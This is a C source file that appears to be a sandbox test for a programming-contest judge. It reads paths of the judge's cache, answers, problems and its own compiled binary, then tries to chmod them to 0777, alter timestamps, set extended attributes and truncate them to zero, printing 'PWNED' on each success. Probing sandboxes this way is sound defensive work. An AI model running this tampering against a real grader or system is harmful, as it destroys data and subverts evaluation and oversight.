/* Changes the metadata of the judge's files named on the input (the cache,
 * its answers, the folder of its own compiled program, the problems) and
 * of its own program: mode, owner, times, extended attributes, size. */
#include "common.h"
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/xattr.h>
#include <unistd.h>

static void attack(const char *path) {
    if (chmod(path, 0777) == 0) {
        printf("PWNED chmod %s\n", path);
        pwned = 1;
    }
    if (chown(path, getuid(), getgid()) == 0 && getuid() != 0) {
        /* Giving a file to oneself is harmless only if one owned it. */
        struct stat st;
        if (stat(path, &st) == 0 && st.st_uid == getuid()) {
            /* Owned already: nothing changed. */
        }
    }
    struct timeval t[2] = {{1, 0}, {1, 0}};
    if (utimes(path, t) == 0) {
        printf("PWNED utimes %s\n", path);
        pwned = 1;
    }
    if (setxattr(path, "user.grundy-pwned", "1", 1, 0) == 0) {
        printf("PWNED setxattr %s\n", path);
        pwned = 1;
    }
    struct stat st;
    if (stat(path, &st) == 0 && S_ISREG(st.st_mode) && truncate(path, 0) == 0) {
        printf("PWNED truncated %s\n", path);
        pwned = 1;
    }
}

int main(int argc, char **argv) {
    (void)argc;
    read_token();
    char path[4096];
    while (next_line(path, sizeof path))
        if (path[0]) attack(path);
    /* Its own compiled program, the one a re-judge would run. */
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n > 0) {
        self[n] = 0;
        attack(self);
    }
    attack(argv[0]);
    report();
    return 0;
}
